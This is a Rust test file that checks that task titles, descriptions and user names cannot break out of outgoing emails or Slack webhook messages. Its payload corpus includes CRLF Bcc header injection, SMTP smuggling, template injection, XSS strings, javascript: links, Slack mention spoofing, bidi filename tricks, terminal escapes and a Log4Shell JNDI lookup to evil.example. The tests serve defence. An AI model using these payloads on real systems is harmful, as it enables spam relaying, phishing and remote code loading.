//! What people write is only text, wherever it goes.

use crate::support::receivers::{Inbox, Receiver};
use crate::support::{Programme, TestApp, json};

/// Each would do something somewhere: in a header, a template, a page, Slack.
const CORPUS: &[&str] = &[
    "Write\r\nBcc: victim@people.example",
    "Write\nContent-Type: text/html\n\n<h1>x</h1>",
    "Write\r\n.\r\nMAIL FROM:<evil@people.example>",
    "Write =?utf-8?q?=0d=0aBcc:_victim@people.example?=",
    "{{recipient.email}} {{ 7 * 7 }}",
    "{% for x in range(9999999) %}{{ x }}{% endfor %}",
    "{{link}}{{organization.name",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</p></body><style>*{display:none}</style>",
    "[click](javascript:alert(1))",
    "<!channel> <!here> <@U024BE7LH> <https://evil.example|northwind.example>",
    "&lt;!channel&gt;",
    "*bold* _it_ ~no~ `code` ```block```",
    "Write\u{2028}Bcc: victim@people.example",
    "Write\u{202e}gpj.exe",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "${jndi:ldap://evil.example/a} #{7*7} <%= 7*7 %>",
];

#[test]
fn no_title_breaks_out_of_a_mail_or_a_slack_message() {
    const HOOK: &str = "/services/T0/B0/X";
    let (inbox, slack) = (Inbox::start(), Receiver::start());
    let app = TestApp::with_inbox(&inbox);
    let it = Programme::active(&app);
    let channel = json!({"kind": "slack", "name": "Team", "event_types": ["item.sent"], "slack": {"webhook_url": slack.url(HOOK)}});
    app.admin().post("/channel-connections", channel).expect(201);
    let mut sent = 0;
    for title in CORPUS {
        // A title that is refused can do no harm either.
        let made = it.add(json!({"kind": "task", "title": title, "description": title})).send();
        if made.status == 201 {
            it.send(&made.id());
            sent += 1;
        } else {
            assert_eq!(made.status, 422, "{title:?}");
        }
    }
    app.work();
    let mails = inbox.mails();
    assert!(sent > 10 && mails.len() == sent, "{sent} sent, {} mails", mails.len());
    for mail in &mails {
        let raw = String::from_utf8_lossy(&mail.raw);
        let names: Vec<String> = mail.headers.iter().map(|(name, _)| name.to_lowercase()).collect();
        assert!(!names.contains(&"bcc".to_owned()) && mail.to == [it.coachee.email.clone()], "{raw}");
        assert_eq!(names.iter().filter(|name| *name == "content-type").count(), 1, "{raw}");
        assert!(!mail.subject.contains(['\r', '\n', '\u{1b}', '\u{2028}']), "{:?}", mail.subject);
        let html = mail.html.to_lowercase();
        for sign in ["<script", "<img", "<style", "href=\"javascript", "49"] {
            assert!(!html.contains(sign) || sign == "49" && !html.contains(" 49 "), "{sign} in {html}");
        }
        assert!(!mail.text.contains(&format!("{} 49", it.coachee.email)) && mail.text.len() < 20_000);
    }
    let messages = slack.requests(HOOK);
    assert_eq!(messages.len(), sent);
    for message in messages {
        let body = message.json();
        let text = message.text();
        assert!(body["blocks"].is_array() && !text.contains("<!") && !text.contains("<@") && !text.contains("<https://evil"), "{text}");
    }
}

#[test]
fn no_name_breaks_out_of_a_mail() {
    let inbox = Inbox::start();
    let app = TestApp::with_inbox(&inbox);
    let admin = app.admin();
    for (number, name) in CORPUS.iter().enumerate() {
        let email = format!("person{number}@people.example");
        let made = admin.post("/users", json!({"email": email, "name": name, "roles": ["coachee"]})).send();
        if made.status != 201 {
            assert_eq!(made.status, 422, "{name:?}");
            continue;
        }
        admin.post(&format!("/users/{}/invitation", made.id()), ()).expect(201);
        app.work();
        let [mail] = inbox.mails_to(&email).try_into().unwrap();
        assert_eq!(mail.to, [email]);
        assert!(mail.headers.iter().all(|(name, _)| !name.eq_ignore_ascii_case("bcc")), "{:?}", mail.headers);
        assert!(!mail.html.contains("<script") && !mail.html.contains("<img") && !mail.html.contains("<style"), "{}", mail.html);
    }
    for email in
        ["a@people.example\r\nBcc: b@people.example", "a@people.example, b@people.example", "<a@people.example>", "a b@people.example"]
    {
        admin.post("/users", json!({"email": email, "name": "Ina", "roles": ["coachee"]})).problem(422, "validation_failed");
    }
}
